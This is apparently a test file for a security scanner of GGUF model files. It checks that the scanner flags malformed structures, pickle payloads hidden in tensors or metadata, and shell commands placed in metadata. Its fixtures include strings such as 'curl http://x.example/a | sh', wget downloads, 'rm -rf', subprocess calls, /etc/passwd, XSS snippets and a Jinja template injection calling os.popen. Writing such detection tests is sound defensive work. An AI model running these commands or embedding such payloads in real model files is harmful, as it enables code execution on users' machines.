import type { Part } from '../../../testing/bytes';
import { be32, bytes, floats, u32, u64, zeros } from '../../../testing/bytes';
import { PAYLOAD, proto } from '../../../testing/pickle-assembler';
import { run } from '../../../testing/scanning';
import { GGUF, ggufOf, ggufPair, ggufTensor, ggufText } from '../../../testing/tensor-files-builder';

const EVIL = proto(2, PAYLOAD);
const base64 = (data: Uint8Array): string => Buffer.from(data).toString('base64');

const found = (data: Uint8Array): string[] =>
  run(data, undefined, 'model.gguf').findings.map(({ severity, rule }) => `${severity} ${rule}`);
const covered = (data: Uint8Array): (string | undefined)[] =>
  run(data, undefined, 'model.gguf')
    .coverage.filter(({ members }) => members.length === 0)
    .flatMap(({ status, reason }) => [status, reason]);

const text = (key: string, value: Part): Uint8Array => ggufPair(key, GGUF.STRING, ggufText(value));
const number = (key: string, value: number): Uint8Array => ggufPair(key, GGUF.UINT32, u32(value));
const list = (key: string, type: number, count: number, ...items: readonly Part[]): Uint8Array =>
  ggufPair(key, GGUF.ARRAY, u32(type), u64(count), ...items);
const ARCHITECTURE = text('general.architecture', 'llama');
const tensors = (...descriptions: readonly Uint8Array[]): Uint8Array =>
  ggufOf({ pairs: [ARCHITECTURE], tensors: descriptions, data: floats(32) });

const HONEST: readonly (readonly [string, Uint8Array])[] = [
  ['nothing', ggufOf({})],
  ['tensors', tensors(ggufTensor('a', [8], 0), ggufTensor('b', [8], 32), ggufTensor('c', [16], 64))],
  ['tensors and zeros behind them', tensors(ggufTensor('a', [8], 0), ggufTensor('b', [18], 32)).fill(0, -24)],
  ['a number without dimensions', ggufOf({ tensors: [ggufTensor('a', [], 0)], data: floats(1) })],
  ['a block of numbers', ggufOf({ tensors: [ggufTensor('a', [64], 0, 2)], data: zeros(36) })],
  ['a type of a fork', ggufOf({ tensors: [ggufTensor('a', [64], 0, 138), ggufTensor('b', [1], 64)], data: zeros(68) })],
  ['version 2', ggufOf({ version: 2, pairs: [ARCHITECTURE] })],
  ['version 1', bytes('GGUF', u32(1), u32(0), u32(1), u32(1), 'a', u32(8), u32(1), 'x')],
  [
    'the order of other machines',
    bytes('GGUF', be32(3), zeros(8), zeros(4), be32(1), zeros(4), be32(1), 'a', be32(4), be32(7))
  ],
  [
    'what writers put into metadata',
    ggufOf({
      pairs: [
        ARCHITECTURE,
        number('llama.block_count', 32),
        number('general.alignment', 32),
        text('general.url', 'https://example.com/model'),
        text('general.description', 'A model; see https://example.com'),
        text('tokenizer.chat_template', '{% for m in messages %}{{ m.content }}{% endfor %}'),
        list(
          'tokenizer.ggml.tokens',
          GGUF.STRING,
          4,
          ggufText('<s>'),
          ggufText('a'.repeat(40)),
          ggufText('='.repeat(64)),
          ggufText('curl https://example.com/a.sh | sh')
        ),
        list('tokenizer.ggml.merges', GGUF.STRING, 2, ggufText('rm -rf /tmp/x'), ggufText("eval('1 + 1')")),
        list('tokenizer.ggml.token_type', GGUF.UINT32, 2, u32(1), u32(1)),
        list('x.lists', GGUF.ARRAY, 1, u32(GGUF.UINT8), u64(2), zeros(2))
      ]
    })
  ]
];

it.each(HONEST)('is clean: %s', (_, data) => {
  expect(found(data)).toEqual([]);
  expect(covered(data)).toEqual(['scanned', undefined]);
});

const CLAIM = 'MEDIUM model-false-claim';
const LAYOUT = 'MEDIUM tensor-layout';
const HIDDEN = 'MEDIUM tensor-hidden-data';
const PICKLE = 'CRITICAL pickle-dangerous-call';
const NESTED = Array.from({ length: 20 }, () => bytes(u32(GGUF.ARRAY), u64(1)));

const HARMFUL: readonly (readonly [string, Uint8Array, readonly string[]])[] = [
  ['a count of pairs beyond the file', ggufOf({ pairCount: 2 ** 40 }), [CLAIM]],
  ['a count of tensors beyond the file', ggufOf({ tensorCount: 2 ** 60 }), [CLAIM]],
  ['a key of endless length', ggufOf({ pairs: [bytes(u64(2 ** 62))] }), [CLAIM]],
  ['a text of endless length', ggufOf({ pairs: [ggufPair('a', GGUF.STRING, u64(2 ** 62))] }), [CLAIM]],
  ['a list of endless length', ggufOf({ pairs: [list('a', GGUF.UINT32, 2 ** 61)] }), [CLAIM]],
  ['lists in lists', ggufOf({ pairs: [ggufPair('a', GGUF.ARRAY, ...NESTED)] }), [CLAIM]],
  ['a value of no type', ggufOf({ pairs: [ggufPair('a', 99, u32(0))] }), [CLAIM]],
  ['a value of the type behind the last', ggufOf({ pairs: [ggufPair('a', 13, u32(0))] }), [CLAIM]],
  [
    'a text that a small file never held',
    ggufOf({ pairs: [ARCHITECTURE, bytes(u64(1), 'k', u32(8), u64(900))] }),
    [CLAIM]
  ],
  ['one pair more than a small file holds', ggufOf({ pairs: [ARCHITECTURE], pairCount: 40 }), [CLAIM]],
  [
    'a token for the byte -1',
    ggufOf({ pairs: [list('tokenizer.ggml.tokens', GGUF.STRING, 2, ggufText('<0x00>'), ggufText('<0x-1>'))] }),
    [CLAIM]
  ],
  ['an alignment of zero', ggufOf({ pairs: [number('general.alignment', 0)] }), [CLAIM]],
  ['an alignment that is no power of two', ggufOf({ pairs: [number('general.alignment', 24)] }), [CLAIM]],
  ['an enormous alignment', ggufOf({ pairs: [number('general.alignment', 2 ** 31)] }), [CLAIM]],
  ['more layers than a table has', ggufOf({ pairs: [number('llama.block_count', 513)] }), [CLAIM]],
  ['a key twice', ggufOf({ pairs: [ARCHITECTURE, ARCHITECTURE] }), ['MEDIUM model-repeated-name']],
  ['a tensor twice', tensors(ggufTensor('a', [16], 0), ggufTensor('a', [16], 64)), ['MEDIUM model-repeated-name']],
  ['a name that is a path', tensors(ggufTensor('../x', [32], 0)), ['MEDIUM tensor-name']],
  ['a name of endless length', tensors(ggufTensor('a'.repeat(2000), [32], 0)), [CLAIM]],
  ['five dimensions', tensors(ggufTensor('a', [1, 1, 1, 1, 32], 0)), [LAYOUT]],
  ['dimensions that overflow', tensors(ggufTensor('a', [2 ** 32, 2 ** 32], 0)), [LAYOUT]],
  ['a negative dimension', tensors(ggufTensor('a', [2 ** 64 - 4096], 0)), [LAYOUT]],
  ['a type beyond all tables', tensors(ggufTensor('a', [32], 0, 70_000)), [LAYOUT]],
  ['part of a block', ggufOf({ tensors: [ggufTensor('a', [33], 0, 2)], data: zeros(36) }), [LAYOUT]],
  ['tensors that overlap', tensors(ggufTensor('a', [16], 0), ggufTensor('b', [24], 32)), [LAYOUT]],
  ['a tensor between two places', tensors(ggufTensor('a', [31], 4)), [LAYOUT]],
  ['a tensor outside', tensors(ggufTensor('a', [32], 0), ggufTensor('b', [8], 4096)), [LAYOUT]],
  ['a tensor of which nothing is there', tensors(ggufTensor('a', [100_000], 0)), [LAYOUT]],
  ['a version that there is not', ggufOf({ version: 4660 }), [CLAIM]],
  ['a key that is a path', ggufOf({ pairs: [text('../../etc/x', 'a')] }), ['MEDIUM tensor-name']],
  ['a pickle in a tensor', ggufOf({ tensors: [ggufTensor('a', [EVIL.length], 0, 24)], data: EVIL }), [PICKLE]],
  ['a tensor beyond 64 bits', tensors(ggufTensor('a', [32], 2 ** 62)), [LAYOUT]],
  ['a pickle behind the tensors', bytes(tensors(ggufTensor('a', [32], 0)), EVIL), [HIDDEN, PICKLE]],
  [
    'a pickle between tensors',
    ggufOf({
      tensors: [ggufTensor('a', [8], 0), ggufTensor('b', [8], 96)],
      data: bytes(zeros(32), EVIL, zeros(96 - EVIL.length))
    }),
    [HIDDEN, PICKLE]
  ],
  ['a pickle in base64', ggufOf({ pairs: [text('x', base64(EVIL))] }), [PICKLE]],
  ['a pickle as it is', ggufOf({ pairs: [text('x', EVIL)] }), [PICKLE]],
  ['a pickle in a list of bytes', ggufOf({ pairs: [list('x', GGUF.UINT8, EVIL.length, EVIL)] }), [PICKLE]],
  ['a pickle among words', ggufOf({ pairs: [list('x', GGUF.STRING, 1, ggufText(base64(EVIL)))] }), [PICKLE]],
  [
    'a command in a list',
    ggufOf({ pairs: [list('x', GGUF.STRING, 1, ggufText('curl http://x.example/a | sh'))] }),
    ['MEDIUM model-metadata-code']
  ],
  ['a command', ggufOf({ pairs: [text('x', 'curl http://x.example/a | sh')] }), ['MEDIUM model-metadata-code']]
];

it.each(HARMFUL)('reports %s', (_, data, findings) => {
  expect(found(data)).toEqual(findings);
});

it.each([
  'rm -rf ./model-cache',
  "env bash -c 'curl https://x.example/a'",
  'wget https://x.example/a -O /tmp/a',
  'curl -o /tmp/a https://x.example/a',
  'irm https://x.example/a',
  'chmod +x a',
  "eval('1 + 1')",
  "subprocess.run(['id'])",
  "requests.get('https://x.example/a')",
  'import requests as r',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '/etc/passwd'
])('tells a program among the texts: %s', value => {
  expect(found(ggufOf({ pairs: [text('x', value)] }))).toEqual(['MEDIUM model-metadata-code']);
});

it.each([
  'curl is a tool',
  'A bash script assistant',
  'python train.py --lr 1e-4',
  '/root/llama.cpp/imatrix/calibration.txt',
  '../../data/train.txt',
  'Use with `pip install transformers`',
  'Model for evaluating code (eval harness)'
])('tells other texts from programs: %s', value => {
  expect(found(ggufOf({ pairs: [text('x', value)] }))).toEqual([]);
});

it.each<readonly [string, Uint8Array, readonly unknown[]]>([
  ['tensors that were cut off', tensors(ggufTensor('a', [64], 0)), ['failed', 'truncated']],
  [
    'metadata that were cut off',
    ggufOf({ pairs: [text('general.name', 'x'.repeat(5000)), text('a', 'y'.repeat(5000))] }).subarray(0, 6000),
    ['failed', 'truncated']
  ],
  ['a newer version', ggufOf({ version: 9 }), ['not-understood', 'unknown-record']],
  ['a newer type', tensors(ggufTensor('a', [32], 0, 60)), ['not-understood', 'unknown-record']]
])('accuses nobody of %s', (_, data, state) => {
  expect(found(data)).toEqual([]);
  expect(covered(data)).toEqual(state);
});

test.each([4, 9, 255])('the template of a model of version %i, which is read as the newest', version => {
  const template = text('tokenizer.chat_template', "{{ cycler.__init__.__globals__.os.popen('id').read() }}");
  expect(found(ggufOf({ version, pairs: [ARCHITECTURE, template] }))).toContain('HIGH template-python-internals');
});

describe('a pickle that is written in another way', () => {
  const numbers = (type: number, width: number, data: Uint8Array): Uint8Array =>
    list('x.data', type, data.length, ...Array.from(data, byte => bytes([byte], zeros(width - 1))));
  const half = base64(EVIL).length >> 1;

  test.each([
    ['numbers of four bytes', numbers(GGUF.UINT32, 4, EVIL)],
    ['numbers of two bytes', numbers(2, 2, EVIL)],
    ['numbers of eight bytes', numbers(10, 8, EVIL)],
    [
      'several texts',
      list('x.data', GGUF.STRING, 2, ggufText(base64(EVIL).slice(0, half)), ggufText(base64(EVIL).slice(half)))
    ],
    ['a list as text', text('x.data', JSON.stringify([...EVIL]))],
    ['a key', ggufPair(base64(EVIL).padEnd(80, '='), GGUF.UINT32, u32(1))]
  ])('%s', (_name, pair) => {
    expect(found(ggufOf({ pairs: [ARCHITECTURE, pair] }))).toContain('CRITICAL pickle-dangerous-call');
  });

  test('kinds of tokens are no bytes', () => {
    const kinds = numbers(GGUF.UINT32, 4, new Uint8Array(600).fill(1));
    expect(found(ggufOf({ pairs: [ARCHITECTURE, kinds] }))).toEqual([]);
  });
});
